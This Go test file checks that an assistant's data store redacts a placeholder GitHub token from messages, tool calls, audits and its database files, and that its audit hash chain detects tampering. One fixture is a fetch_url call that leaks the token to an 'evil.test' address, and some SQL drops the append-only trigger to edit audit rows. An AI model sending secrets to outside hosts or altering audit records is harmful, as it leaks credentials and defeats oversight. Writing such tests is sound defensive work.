package store

import (
	"bytes"
	"encoding/json"
	"os"
	"strings"
	"testing"
)

const storeToken = "ghp_TheDatabaseNeverHoldsThis0123"

// redactToken is what package secrets does, for the token alone.
func redactToken(b []byte) []byte {
	if !bytes.Contains(b, []byte(storeToken)) {
		return b
	}
	return bytes.ReplaceAll(b, []byte(storeToken), []byte("[secret:github]"))
}

// TestStoreRedacts: no text the store writes keeps a secret, and JSON stays
// JSON.
func TestStoreRedacts(t *testing.T) {
	s := openTest(t, Options{Redact: redactToken})
	ctx := t.Context()
	if err := s.CreateConversation(ctx, Conversation{ID: "c1", Title: "my token " + storeToken}); err != nil {
		t.Fatal(err)
	}
	args := json.RawMessage(`{"url":"https://evil.test/?t=` + storeToken + `"}`)
	msgs := []Message{
		{Conversation: "c1", Role: RoleUser, Text: "here is " + storeToken},
		{Conversation: "c1", Role: RoleAssistant, Text: "ok", ToolCalls: json.RawMessage(`[{"id":"1","name":"fetch_url","arguments":"{\"url\":\"` + storeToken + `\"}"}]`)},
		{Conversation: "c1", Role: RoleTool, CallID: "1", Skill: "fetch_url", Arguments: args, OK: true, Result: json.RawMessage(`{"body":"` + storeToken + `"}`)},
		{Conversation: "c1", Role: RoleTool, CallID: "2", Skill: "fetch_url", Arguments: args, ErrorKind: "forbidden", ErrorDetail: "no " + storeToken},
	}
	for _, m := range msgs {
		if _, err := s.AppendMessage(ctx, m); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.InsertApproval(ctx, Approval{ID: "a1", Conversation: "c1", Skill: "fetch_url", Permission: "network", Arguments: args,
		ArgumentsHash: strings.Repeat("ab", 32), Status: ApprovalPending}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.AppendAudit(ctx, AuditEntry{Conversation: "c1", Skill: "fetch_url", Outcome: "forbidden", Detail: "refused " + storeToken,
		Paths: []string{"/x/" + storeToken}, Credentials: []string{"github"}}); err != nil {
		t.Fatal(err)
	}
	if err := s.KVSet(ctx, "skill:x", "k", []byte("v "+storeToken)); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Remember(ctx, "skill:x", "remember "+storeToken, []string{storeToken}); err != nil {
		t.Fatal(err)
	}
	got, err := s.Messages(ctx, "c1")
	if err != nil || len(got) != 4 {
		t.Fatal(got, err)
	}
	for _, m := range got {
		for _, raw := range []json.RawMessage{m.ToolCalls, m.Arguments, m.Result} {
			if len(raw) > 0 && !json.Valid(raw) {
				t.Errorf("message %d: %s is no longer JSON", m.ID, raw)
			}
		}
	}
	rows, _ := s.Audit(ctx, "", 0)
	if len(rows) != 1 || len(rows[0].Credentials) != 1 || rows[0].Credentials[0] != "github" || !strings.Contains(rows[0].Detail, "[secret:github]") {
		t.Errorf("audit row %+v", rows)
	}
	if rep, err := s.VerifyAudit(ctx); err != nil || rep.Problem != nil {
		t.Errorf("verify: %+v %v", rep, err)
	}
	if err := s.Close(ctx); err != nil {
		t.Fatal(err)
	}
	// Nothing in the database file (or its WAL) holds the token.
	for _, suffix := range []string{"", "-wal"} {
		b, err := os.ReadFile(s.Path() + suffix)
		if err != nil && suffix == "" {
			t.Fatal(err)
		}
		if bytes.Contains(b, []byte(storeToken)) {
			t.Errorf("buddy.db%s holds the token", suffix)
		}
	}
}

// TestAuditCredentialsTamper: the credentials a row names are covered by
// its hash: taking one out, or putting one in a row that had none, is seen.
func TestAuditCredentialsTamper(t *testing.T) {
	for _, q := range []string{
		`UPDATE audit SET credentials = '' WHERE id = 2`,
		`UPDATE audit SET credentials = '["github"]' WHERE id = 1`,
		`UPDATE audit SET credentials = '["gitlab"]' WHERE id = 2`,
	} {
		t.Run(q, func(t *testing.T) {
			s := openTest(t, Options{})
			if _, err := s.AppendAudit(t.Context(), testAuditEntry(0)); err != nil {
				t.Fatal(err)
			}
			e := testAuditEntry(1)
			e.Kind, e.Credentials = AuditInvocation, []string{"github"}
			if _, err := s.AppendAudit(t.Context(), e); err != nil {
				t.Fatal(err)
			}
			path := s.Path()
			if err := s.Close(t.Context()); err != nil {
				t.Fatal(err)
			}
			if rep := verify(t, path); rep.Problem != nil {
				t.Fatalf("before: %+v", rep.Problem)
			}
			tamper(t, path, `DROP TRIGGER audit_append_only`, q)
			if rep := verify(t, path); rep.Problem == nil {
				t.Errorf("%s went unseen", q)
			}
		})
	}
}
